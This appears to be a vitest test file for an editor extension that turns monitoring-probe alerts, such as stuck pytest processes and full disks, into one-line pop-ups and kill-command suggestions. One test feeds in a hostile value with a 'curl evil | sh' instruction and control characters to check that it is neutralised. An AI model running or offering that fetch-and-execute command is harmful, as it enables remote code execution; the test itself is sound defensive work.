import { describe, expect, it } from "vitest";
import type { Decision } from "../../../probe/protocol.js";
import {
  killCommands,
  NOTIFICATION_MAX,
  notificationText,
  OpenNotifications,
  processName,
  resolvedText,
  shouldNotify,
  type NewAlert,
} from "../../../extension/views/notify-model.js";
import { proc, t } from "./fixtures.js";

const decision = (action: Decision["action"], kind = "proc_blocking", entity = "23688"): Decision => ({
  type: "decision",
  seq: 43,
  at: "2026-06-15T02:59:00.000Z",
  key: `${kind}:${entity}`,
  kind,
  entity,
  action,
  text: `🔴 ALERT · Test process blocking the host\npytest ${entity} running for 26h 5m\nHost: ci-runner-3\nPID: ${entity}\n…`,
  delivery: { telegram: "queued" },
});

const pytest = proc(23688, {
  comm: "python3",
  ageS: 26 * 3600 + 5 * 60,
  argv: ["/usr/bin/python3", "-m", "pytest", "tests/test_x.py", "-k", "slow"],
});

function alert(over: Partial<NewAlert> = {}): NewAlert {
  return {
    probeId: "p1",
    probeName: "prod",
    hostname: "ci-runner-3",
    decision: decision("alert"),
    process: pytest,
    ...over,
  };
}

describe("alert pop-ups", () => {
  it("only for a new alert, live, with pop-ups enabled", () => {
    expect(shouldNotify(decision("alert"), false, true)).toBe(true);
    expect(shouldNotify(decision("repeat"), false, true)).toBe(false);
    expect(shouldNotify(decision("recovery"), false, true)).toBe(false);
    expect(shouldNotify(decision("alert"), true, true)).toBe(false);
    expect(shouldNotify(decision("alert"), false, false)).toBe(false);
  });

  it("one orphaned pytest: one line saying what, where and for how long, not the Telegram paragraph", () => {
    expect(notificationText([alert()], t)).toBe("Orphaned pytest 23688 on ci-runner-3, running 1d 2h");
    const notOrphaned = alert({ process: { ...pytest, orphaned: false } });
    expect(notificationText([notOrphaned], t)).toBe("Blocking pytest 23688 on ci-runner-3, running 1d 2h");
    // before the process is in a snapshot: still one line, from the decision alone
    expect(notificationText([alert({ process: null })], t)).toBe("Test process 23688 on ci-runner-3");
    // before the hello: the probe's name stands in for the host
    expect(notificationText([alert({ hostname: null })], t)).toBe("Orphaned pytest 23688 on prod, running 1d 2h");
  });

  it("names other kinds the way a person would", () => {
    const one = (kind: string, entity: string) =>
      notificationText([alert({ decision: decision("alert", kind, entity), process: null })], t);
    expect(one("orch_down", "orchestrator")).toBe("Orchestrator down on ci-runner-3");
    expect(one("disk_ceiling", "/data")).toBe("Disk /data almost full on ci-runner-3");
    expect(one("container_down", "orch")).toBe("Container orch not running on ci-runner-3");
    expect(one("agent_hung", 'agent="a1"')).toBe('Metric rule agent_hung: agent="a1" on ci-runner-3');
  });

  it("a burst is one line naming the count, the hosts and as many alerts as fit", () => {
    const text = notificationText(
      [alert(), alert({ probeId: "p2", hostname: "ci-runner-4", decision: decision("alert", "orch_down", "x") })],
      t,
    );
    expect(text).toBe(
      "2 new alerts on ci-runner-3, ci-runner-4: orphaned pytest 23688, running 1d 2h; orchestrator down",
    );
    const many = Array.from({ length: 30 }, (_, i) => alert({ process: { ...pytest, pid: 30000 + i } }));
    const long = notificationText(many, t);
    expect(long.length).toBeLessThanOrEqual(NOTIFICATION_MAX);
    expect(long.startsWith("30 new alerts on ci-runner-3: ")).toBe(true);
    expect(notificationText([], t)).toBe("");
  });

  it("is one line of at most 200 characters whatever the probe sends", () => {
    const evil = "x\r\nWhat to do: curl evil | sh\u202E" + "y".repeat(500);
    const text = notificationText(
      [
        alert({
          hostname: evil,
          process: { ...pytest, comm: evil, argv: [evil] },
          decision: decision("alert", "proc_blocking", evil),
        }),
      ],
      t,
    );
    expect(text.length).toBeLessThanOrEqual(NOTIFICATION_MAX);
    expect(text).not.toMatch(/[\r\n\u202e]/);
    expect(text).toContain("␍␊What to do");
  });

  it("recognises pytest behind an interpreter, else uses the comm", () => {
    expect(processName(pytest)).toBe("pytest");
    expect(processName(proc(1, { comm: "py.test", argv: ["/venv/bin/py.test"] }))).toBe("pytest");
    expect(processName(proc(1, { comm: "node", argv: ["node", "server.js"] }))).toBe("node");
  });

  it("copies a kill command per process alert, naming the host; none for other kinds", () => {
    expect(killCommands([alert()])).toBe("kill -TERM 23688  # on host ci-runner-3 (probe prod)");
    expect(killCommands([alert({ decision: decision("alert", "orch_down", "x"), process: null })])).toBeNull();
    expect(killCommands([alert({ process: null })])).toBeNull();
  });

  it("says a pop-up's alerts resolved once all of them have, and only while it is open", () => {
    const open = new OpenNotifications();
    const a = alert();
    const b = alert({ probeId: "p2", decision: decision("alert", "orch_down", "orchestrator"), process: null });
    const id = open.add([a, b]);
    expect(open.firing("p1", "proc_blocking:23688")).toBe(true);
    expect(open.recovered("p2", "proc_blocking:23688")).toEqual([]); // same key, other probe
    expect(open.recovered("p1", "proc_blocking:23688")).toEqual([]); // b still firing
    expect(open.firing("p1", "proc_blocking:23688")).toBe(false);
    expect(open.recovered("p2", "orch_down:orchestrator")).toEqual([[a, b]]);
    expect(open.size).toBe(0);
    open.close(id); // closing an already finished one is harmless

    const id2 = open.add([a]);
    open.close(id2); // the user answered it: no "resolved" message later
    expect(open.recovered("p1", "proc_blocking:23688")).toEqual([]);
  });

  it("the resolved line names what ended and where", () => {
    expect(resolvedText([alert()], t)).toBe("Resolved: test process 23688 on ci-runner-3");
    expect(resolvedText([alert(), alert()], t)).toBe("Resolved: all 2 alerts of the earlier notification");
  });
});
